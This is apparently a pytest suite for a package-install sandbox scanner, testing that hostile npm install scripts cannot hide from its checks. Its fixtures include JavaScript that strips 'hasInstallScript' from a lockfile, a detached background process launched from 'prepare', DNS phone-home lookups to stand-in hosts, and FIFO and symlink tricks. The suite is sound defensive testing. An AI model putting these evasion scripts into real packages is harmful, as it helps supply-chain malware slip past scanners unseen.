"""What a hostile package cannot change about its install: which installed image a local target's cache key names,
and the record of its own install (the lockfile, the version, the check that nothing of it still runs).

Unit tests: two local folders the install is given differently (packed by sandbox.core.archive.pack_path) never share
a content hash, so never an installed image. Docker tests (marked): an npm postinstall that rewrites the lockfile npm
wrote cannot take its own install script out of the install's manifest (I5) or the installed image's copy of it.
"""

from __future__ import annotations

import json
import os
import uuid

import pytest

from sandbox.core.archive import pack_path
from sandbox.install.container import installed_tag
from sandbox.install.request import InstallRequest
from scanner.pipeline.targets import content_hash


def _folder(root, name, files, links=()):
    folder = root / name
    folder.mkdir()
    for relative, data in files.items():
        (folder / relative).write_bytes(data)
    for relative, target in links:
        os.symlink(target, folder / relative)
    return folder


def _install_local_npm(docker_client, package, name, scripts, files):  # type: ignore[no-untyped-def]
    """A local npm package folder `name` 0.1.0 with these scripts and files, installed afresh in the sandbox."""
    from sandbox.core import images
    from sandbox.core.session import SandboxSession
    from sandbox.install import container as install

    package.mkdir()
    (package / "package.json").write_text(json.dumps({"name": name, "version": "0.1.0", "license": "MIT",
                                                      "bin": {name: "index.js"}, "scripts": scripts}))
    for file_name, text in {"index.js": "#!/usr/bin/env node\n", **files}.items():
        (package / file_name).write_text(text)
    runtime = images.ensure_runtime_image(docker_client, "node")
    request = InstallRequest("npm", "/opt/src/pkg", name, f"test:{uuid.uuid4()}", local_path=package)
    with SandboxSession(docker_client) as session:
        return install.install(session, request, runtime.tag, runtime.image_id, use_cache=False)


def _request(folder):
    return InstallRequest("npm", "/opt/src/pkg", "pkg", f"local:{content_hash(folder)}", local_path=folder)


def test_folders_whose_files_concatenate_alike_hash_apart(tmp_path):
    # One file "a" holding X\0b\0Y and two files a=X, b=Y fed the same bytes to the old hash.
    one = _folder(tmp_path, "one", {"a": b"X\0b\0Y"})
    two = _folder(tmp_path, "two", {"a": b"X", "b": b"Y"})
    assert pack_path(one, "pkg", 1, 1) != pack_path(two, "pkg", 1, 1)
    assert content_hash(one) != content_hash(two)
    assert installed_tag("sha256:runtime", _request(one)) != installed_tag("sha256:runtime", _request(two))


def test_an_install_under_another_registry_allowlist_is_cached_apart(tmp_path, monkeypatch):
    # An install under a wider allowlist (MCP_SANDBOX_REGISTRIES) reached hosts the shipped one refuses, and its
    # image's label records them as allowed: a later scan under the shipped allowlist reused it (same tag) and
    # reported no I7 for them.
    request = InstallRequest("npm", "x@1.0.0", "x", "npm:x@1.0.0", version="1.0.0")
    shipped = installed_tag("sha256:runtime", request)
    wider = tmp_path / "registries.json"
    wider.write_text(json.dumps({"npm": {"hosts": ["registry.npmjs.org", ".exfil.example.invalid"]},
                                 "pypi": {"hosts": ["pypi.org", "files.pythonhosted.org"]}}))
    monkeypatch.setenv("MCP_SANDBOX_REGISTRIES", str(wider))
    assert installed_tag("sha256:runtime", request) != shipped
    same = tmp_path / "same.json"
    same.write_text(json.dumps({"npm": {"hosts": ["registry.npmjs.org"], "ports": [443]}}))
    monkeypatch.setenv("MCP_SANDBOX_REGISTRIES", str(same))
    assert installed_tag("sha256:runtime", request) == shipped  # the same allowlist from another file: the same tag


def test_a_symbolic_link_and_its_target_are_part_of_the_hash(tmp_path):
    # The install is given the link (pack_path keeps it), so a folder whose entry point links elsewhere is another
    # install: the old hash skipped links and reused the first folder's installed image for the second.
    files = {"safe.js": b"safe", "evil.js": b"evil"}
    safe = _folder(tmp_path, "safe", files, links=[("index.js", "safe.js")])
    evil = _folder(tmp_path, "evil", files, links=[("index.js", "evil.js")])
    none = _folder(tmp_path, "none", files)
    assert len({content_hash(safe), content_hash(evil), content_hash(none)}) == 3


def test_permission_bits_and_empty_folders_are_part_of_the_hash(tmp_path):
    plain = _folder(tmp_path, "plain", {"run": b"#!/bin/sh\n"})
    executable = _folder(tmp_path, "executable", {"run": b"#!/bin/sh\n"})
    (plain / "run").chmod(0o644)
    (executable / "run").chmod(0o755)
    assert content_hash(plain) != content_hash(executable)
    with_folder = _folder(tmp_path, "with-folder", {"run": b"#!/bin/sh\n"})
    (with_folder / "run").chmod(0o644)
    (with_folder / "empty").mkdir()
    assert content_hash(plain) != content_hash(with_folder)


def test_the_hash_is_stable_and_skips_what_the_install_is_not_given(tmp_path):
    folder = _folder(tmp_path, "pkg", {"index.js": b"x"})
    first = content_hash(folder)
    (folder / "node_modules").mkdir()
    (folder / "node_modules" / "dep.js").write_bytes(b"skipped")
    (folder / ".git").mkdir()
    assert content_hash(folder) == first
    archive = tmp_path / "pkg.tgz"
    archive.write_bytes(b"archive bytes")
    assert content_hash(archive) == content_hash(archive)


# ------------------------------------------------------------------------------ the install's manifest (docker)

SCRUB = ("const fs = require('fs'); const path = '/opt/server/package-lock.json';"
         "const lock = JSON.parse(fs.readFileSync(path, 'utf8'));"
         "for (const entry of Object.values(lock.packages || {})) { delete entry.hasInstallScript; }"
         "lock.packages['node_modules/mcp-zoo-scrubber'].version = '9.9.9';"
         "fs.writeFileSync(path, JSON.stringify(lock));")


@pytest.mark.docker
def test_an_install_script_cannot_rewrite_the_manifest_of_its_install(docker_client, tmp_path, no_leftovers):
    """mcp-zoo-scrubber's postinstall takes `hasInstallScript` out of the lockfile npm wrote (so I5 would not name
    it) and changes its version there. The install's manifest, and the installed image's lockfile a cached scan reads,
    are the lockfile npm wrote before any install script ran."""
    from sandbox.core.session import SandboxSession
    from sandbox.install import container as install
    from scanner.provenance.npm_lockfile import lockfile_tree

    installed = _install_local_npm(docker_client, tmp_path / "scrubber", "mcp-zoo-scrubber",
                                   {"postinstall": "node scrub.js"}, {"scrub.js": SCRUB})
    try:
        assert installed.version == "0.1.0"
        entry = installed.manifest["packages"]["node_modules/mcp-zoo-scrubber"]
        assert entry.get("hasInstallScript") is True, entry
        assert [d.name for d in lockfile_tree(installed.manifest, "package-lock.json").with_install_scripts] == [
            "mcp-zoo-scrubber"]
        with SandboxSession(docker_client) as session:
            cached = install.cached_install(session, installed.image, installed.runtime_image)
            assert cached is not None
            assert install.installed_manifest(session, cached, "npm") == installed.manifest
    finally:
        docker_client.images.remove(installed.image, force=True)


def test_the_installed_version_must_be_the_one_the_scan_resolved():
    """The version describe_* read from the install's description (npm's lockfile; install.json, which the venv's
    Python writes after package code, a .pth included, ran) must be the resolved one for a registry target; a local
    target's version is its own to say."""
    from sandbox.core.errors import SandboxError
    from sandbox.install.installers import describe_npm, describe_pypi

    npm = InstallRequest("npm", "srv@1.2.3", "srv", "npm:srv@1.2.3", version="1.2.3")
    lock = {"packages": {"node_modules/srv": {"version": "1.2.3", "bin": {"srv": "cli.js"}}}}
    assert describe_npm(lock, npm)[0] == "1.2.3"
    lock["packages"]["node_modules/srv"]["version"] = "0.0.1"
    with pytest.raises(SandboxError, match="not the 1.2.3 the scan resolved"):
        describe_npm(lock, npm)
    local = InstallRequest("npm", "/opt/src/pkg", "srv", "local:x")
    assert describe_npm(lock, local)[0] == "0.0.1"
    pypi = InstallRequest("pypi", "srv==2024.1.5", "srv", "pypi:srv@2024.01.05", version="2024.01.05")
    described = {"distributions": [{"name": "Srv", "version": "2024.1.5", "console_scripts": {}}]}
    assert describe_pypi(described, pypi)[0] == "2024.1.5"  # the same version, written as PEP 440 normalises it
    described["distributions"][0]["version"] = "9.9.9"
    with pytest.raises(SandboxError, match="version '9.9.9'"):
        describe_pypi(described, pypi)
    described["distributions"][0]["version"] = "1" * 5000  # past Python's int limit: a ValueError in packaging
    with pytest.raises(SandboxError, match="not the 2024.01.05 the scan resolved"):
        describe_pypi(described, pypi)


def test_a_zombie_whose_other_threads_run_on_is_a_leftover():
    """A process whose first thread exited shows as `Zl` in ps while its other threads run (seen on this engine: a
    Python process that ended its main thread with SYS_exit, 61 threads alive); it is not gone."""
    from sandbox.install.steps import live_leftovers

    rows = [{"pid": "1", "stat": "Ss", "uid": "10002"}, {"pid": "7", "stat": "Zl", "uid": "10001"},
            {"pid": "8", "stat": "Z", "uid": "10001"}, {"pid": "9", "stat": "X", "uid": "10001"}]
    assert [row["pid"] for row in live_leftovers(rows, frozenset({"10002"}))] == ["7"]


# ------------------------------------------------------------------------- the resolution's lock, as left (docker)


@pytest.mark.docker
def test_a_lock_left_as_a_fifo_or_a_link_reads_as_no_lock_at_once(docker_client, no_leftovers):
    """The PEP 751 lock is read from the install container's /tmp after the resolution step, in which an sdist's
    build backend may have run: one that left a FIFO in its place kept the host's `head` waiting on it until the
    engine call timed out (a misleading "the install container stopped responding"), and a link was followed. Both
    now read as no lock (so the install builds with --no-build off and says it could not tell what it builds)."""
    import time

    from sandbox.core import images
    from sandbox.core.engine import connect
    from sandbox.core.hardening import hardened_host_config
    from sandbox.core.session import SandboxSession
    from sandbox.install import container as install
    from sandbox.install.phases import PYLOCK
    from sandbox.install.steps import StepRunner

    client = connect(timeout=20)  # a read that waits on the FIFO fails in 20 s, not the default 120 s
    runtime = images.ensure_runtime_image(docker_client, "python").tag
    with SandboxSession(client) as session:
        host_config = hardened_host_config(
            client.api, memory_bytes=256 * 1024**2, nano_cpus=1_000_000_000, pids_limit=64, network_mode="none",
            tmpfs={install.INSTALL_HOME: f"rw,nosuid,nodev,size=16m,uid={install.INSTALL_UID},"
                                         f"gid={install.INSTALL_UID},mode=0700",
                   "/tmp": "rw,nosuid,nodev,size=16m,mode=1777"})
        container_id = session.create_container("install", image=runtime, command=install.IDLE_COMMAND,
                                                user="10002:10002", working_dir="/opt/server",
                                                host_config=host_config)
        runner = StepRunner(client.api, container_id, user=f"{install.INSTALL_UID}:{install.INSTALL_UID}",
                            environment={}, deadline=time.monotonic() + 60, home_root=install.INSTALL_HOME)
        runner.start()
        assert runner.run(["sh", "-c", f"mkfifo {PYLOCK}"]).exit_code == 0
        began = time.monotonic()
        assert runner.read_tmp_file(PYLOCK, 1024) == b""
        assert time.monotonic() - began < 10
        assert runner.run(["sh", "-c", f"rm {PYLOCK}; echo secret > /tmp/other; ln -s /tmp/other {PYLOCK}"]
                          ).exit_code == 0
        assert runner.read_tmp_file(PYLOCK, 1024) == b""
        assert runner.run(["sh", "-c", f"rm {PYLOCK}; echo '[lock]' > {PYLOCK}"]).exit_code == 0
        assert runner.read_tmp_file(PYLOCK, 1024) == b"[lock]\n"  # a regular file still reads


# -------------------------------------------------------- a local folder's prepare and the lockfile npm writes (docker)

# Left running by the folder's `prepare` (which npm runs while it packs the folder, in the step that fetches the tree):
# once npm has written its lockfile, take every `hasInstallScript` out of it, so no install script step would run.
UNFLAG = ("const fs = require('fs'); const p = '/opt/server/package-lock.json'; const end = Date.now() + 60000;"
          "while (Date.now() < end) { try { const s = fs.readFileSync(p, 'utf8');"
          " if (!s.includes('hasInstallScript')) continue; const l = JSON.parse(s);"
          " for (const e of Object.values(l.packages || {})) delete e.hasInstallScript;"
          " fs.writeFileSync(p, JSON.stringify(l, null, 2)); break; } catch (e) {} }")
PREPARE = ("const { spawn } = require('child_process');"
           "require('dns').lookup('prepare.phone.example.invalid', () => {});"
           f"spawn(process.execPath, ['-e', {json.dumps(UNFLAG)}], {{detached: true, stdio: 'ignore'}}).unref();")
PHONE = "require('dns').lookup('postinstall.phone.example.invalid', () => {});"


@pytest.mark.docker
def test_a_local_folders_prepare_cannot_unflag_its_install_script(docker_client, tmp_path, no_leftovers):
    """A folder target's `prepare` runs while npm packs it, in the step that also writes npm's lockfile; the install
    scripts to run were read from that lockfile. A process `prepare` left behind took `hasInstallScript` out of it
    as soon as npm wrote it: the folder's own postinstall (which phones home, as it does on a user's machine, where
    npm runs it right after `prepare` and never reads the lockfile back) never ran: no I7, and I5 did not name it."""
    from scanner.provenance.npm_lockfile import lockfile_tree

    installed = _install_local_npm(docker_client, tmp_path / "folder", "mcp-zoo-unflagger",
                                   {"prepare": "node prepare.js", "postinstall": "node phone.js"},
                                   {"prepare.js": PREPARE, "phone.js": PHONE})
    try:
        refused = {(a.host, a.package, a.script) for a in installed.egress if not a.allowed}
        assert ("postinstall.phone.example.invalid", "mcp-zoo-unflagger@0.1.0", "postinstall") in refused, refused
        from sandbox.install.phases import NPM_PACK  # the prepare's own lookup, charged to its own step
        assert ("prepare.phone.example.invalid", None, NPM_PACK) in refused, refused
        assert "mcp-zoo-unflagger" in [
            d.name for d in lockfile_tree(installed.manifest, "package-lock.json").with_install_scripts]
    finally:
        docker_client.images.remove(installed.image, force=True)
